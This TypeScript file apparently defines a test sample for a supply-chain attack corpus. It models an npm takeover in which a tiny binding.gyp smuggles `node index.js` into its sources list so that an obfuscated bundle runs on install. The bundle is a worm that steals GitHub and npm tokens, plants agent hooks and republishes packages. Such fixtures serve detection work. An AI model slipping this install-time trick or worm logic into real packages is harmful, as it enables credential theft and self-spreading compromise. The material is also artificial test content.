import { defineAttack } from "../attack.ts";
import { serviceClient } from "../bases.ts";
import { renderBundle } from "../bundle.ts";
import { collectSecrets, dropAgentHooks, republish, uploadToRepository } from "../fragments.ts";
import { commonScript } from "../guard.ts";
import { hideInTable, oneLine } from "../hiding.ts";
import type { LineEntry, PackageLine } from "../publishing-ways.ts";
import type { Sample } from "../sample.ts";

/** The whole of the file that makes npm run node-gyp: no source in C, a command in the place of a list of sources. */
const phantomGyp = `{
  "targets": [{
    "target_name": "Setup",
    "type": "none",
    "sources": ["<!(node index.js > /dev/null 2>&1 && echo stub.c)"]
  }]
}
`;

/**
 * Phantom Gyp, 3 and 4 June 2026: `@vapi-ai/server-sdk`, ai-sdk-ollama, autotel and more, 57 packages, 286 versions. No script in the
 * manifest: a `binding.gyp` of 157 bytes makes npm run node-gyp, which runs an oversized `index.js`.
 */
export const phantomGyp2026: Sample = defineAttack({
  id: "phantom-gyp-2026",
  title: "A binding.gyp of 157 bytes and no script runs an oversized index.js",
  group: "takeover",
  trigger: "install",
  judged: [
    { name: "@vapi-ai/server-sdk", version: "0.11.1" },
    { name: "autotel", version: "2.26.1" },
  ],
  now: "2026-06-03T23:40:00Z",
  createLines: () => {
    const bundle = renderBundle(3_100_000, 98, [hideInTable(oneLine(worm), "base64")]);
    return [
      line("@vapi-ai/server-sdk", ["0.10.0", "0.11.0", "0.11.1", "1.2.2"], bundle),
      line("autotel", ["2.25.0", "2.26.0", "2.26.1", "2.26.2"], bundle),
    ];
  },
});

function line(
  name: string,
  [older, last, first, second]: readonly [string, string, string, string],
  bundle: string,
): PackageLine {
  const armed = {
    files: [
      { path: "binding.gyp", content: phantomGyp },
      { path: "index.js", content: bundle },
    ],
    manifest: { main: "lib/client.js" },
  };
  const releases: readonly LineEntry[] = [
    ["0.9.0", "2025-11-01T10:00:00Z"],
    [older, "2026-01-15T10:00:00Z"],
    [last, "2026-05-02T10:00:00Z"],
    [first, "2026-06-03T23:22:01Z", armed],
    [second, "2026-06-03T23:22:09Z", armed],
  ];
  return {
    name,
    files: serviceClient(name),
    way: name === "autotel" ? "trusted-publisher" : "workflow-token",
    releases,
  };
}

const worm = commonScript(`
${collectSecrets}
${dropAgentHooks}
${uploadToRepository("Inert: Miasma")}
${republish}
dropAgentHooks();
if (process.env.GITHUB_TOKEN) { uploadToRepository(process.env.GITHUB_TOKEN); }
if (npmToken()) { republish(npmToken()); }
`);
